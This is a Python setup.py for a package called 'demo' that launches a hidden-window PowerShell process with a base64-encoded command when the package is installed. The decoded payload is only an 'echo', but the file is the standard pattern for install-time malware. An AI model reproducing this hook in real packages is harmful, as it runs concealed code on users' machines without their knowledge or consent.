import subprocess
from setuptools import setup

subprocess.Popen(
    "powershell -WindowStyle Hidden -EncodedCommand SQBuAHYAbwBrAGUALQBFAHgAcAByAGUAcwBzAGkAbwBuACAAJwBlAGMAaABvACcA",
    shell=True,
)
setup(name="demo", version="0.1")
